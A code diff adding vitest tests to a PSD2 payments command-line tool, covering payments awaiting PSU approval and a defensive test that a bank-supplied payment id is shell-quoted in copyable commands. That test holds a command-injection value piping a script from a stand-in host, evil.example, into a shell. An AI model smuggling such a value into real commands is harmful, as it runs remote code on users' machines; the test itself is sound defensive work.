@@ -1,6 +1,12 @@
 import { tmpdir } from 'node:os';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { nextCommands } from '../../src/payments/view.ts';
+import { hintOfReading } from '../../src/session/hints.ts';
+import { homeWithKeys } from '../support/home-with-keys.ts';
 import { oneHome } from '../support/one-home.ts';
+import { psd2 } from '../support/program.ts';
+import { CREATE, homeAt, PSU, servedBank } from '../support/remote-home.ts';
+import { atTerminal } from '../support/terminal.ts';
 
 const { run, json } = oneHome();
 const HERE = { cwd: tmpdir() };
@@ -44,5 +50,57 @@ describe('payments list [C-payments-list, C-newest-payment]', () => {
     const whole = await json(['payments', 'list', '--refresh']);
     expect({ code: whole.code, stderr: whole.stderr }).toEqual({ code: 3, stderr: '' });
     expect(whole.value.items[0].error).toMatchObject({ code: 'BANK_REFUSED' });
+  });
+});
+
+const CROSS_BORDER = ['payments', 'create', '--cross-border', '--example', '--quiet'];
+
+describe('a payment that waits for its PSU [C-status-waiting, C-newest-payment]', () => {
+  it('says where the PSU approves it at a bank elsewhere, and plays nobody there', async () => {
+    const bank = await servedBank();
+    const home = await homeAt(bank, { ...PSU, operatorUrl: undefined });
+    const { stdout } = await psd2([...CREATE, '--json'], { home });
+    const { paymentId, _links: links } = JSON.parse(stdout);
+    const read = await psd2(['status', '--json'], { home });
+    expect({ code: read.code, ...JSON.parse(read.stdout).error }).toMatchObject({
+      ...{ exitCode: 3, status: 404, paymentId, scaRedirect: links.scaRedirect.href },
+      message: `Payment ${paymentId} is waiting for its PSU. It can be read once the PSU has approved it.`,
+      hint: `Approve it:\npsd2 payments authorise ${paymentId}`,
+    });
+  });
+
+  it('tells a person which payment it is, and the commands that approve it [C-sca-command]', async () => {
+    const home = await homeWithKeys();
+    const paymentId = (await psd2(CROSS_BORDER, { home })).stdout.trim();
+    const { code, all } = await atTerminal(['status', '--sca', 'none'], [], { home });
+    expect(code).toBe(0);
+    const lines = all.replaceAll('\r', '').split('\n');
+    expect(lines).toContain(`The newest payment of this profile: ${paymentId}`);
+    expect(lines.slice(lines.indexOf('Next:'))).toEqual([
+      'Next:',
+      `  psd2 sca approve ${paymentId}`,
+      `  psd2 payments authorise ${paymentId}`,
+      '',
+    ]);
+  });
+});
+
+const HOSTILE = "x; curl evil.example | sh '$(id)'";
+const QUOTED = "'x; curl evil.example | sh '\\''$(id)'\\'''";
+
+describe('an id in a command to copy [S10-pasted-id]', () => {
+  it('is one word where it comes from the bank', () => {
+    const _links = { scaRedirect: { href: 'https://bank.example/sca' } };
+    const _meta = { requestId: 'r', status: 201, durationMs: 1, profile: 'p' };
+    const created = { paymentId: HOSTILE, transactionStatus: 'RCVD', _links, _meta };
+    expect(nextCommands('domestic', created as unknown as Parameters<typeof nextCommands>[1])).toEqual([
+      `sca approve ${QUOTED}`,
+      'sandbox batch run',
+      `status ${QUOTED}`,
+    ]);
+    const reference = { service: 'payments', product: 'p', paymentId: 'kQ3n_V0-b' } as const;
+    expect(hintOfReading([{ code: 'RESOURCE_UNKNOWN', category: 'ERROR' }], reference, true)).toContain(
+      '\npsd2 sca approve kQ3n_V0-b',
+    );
   });
 });
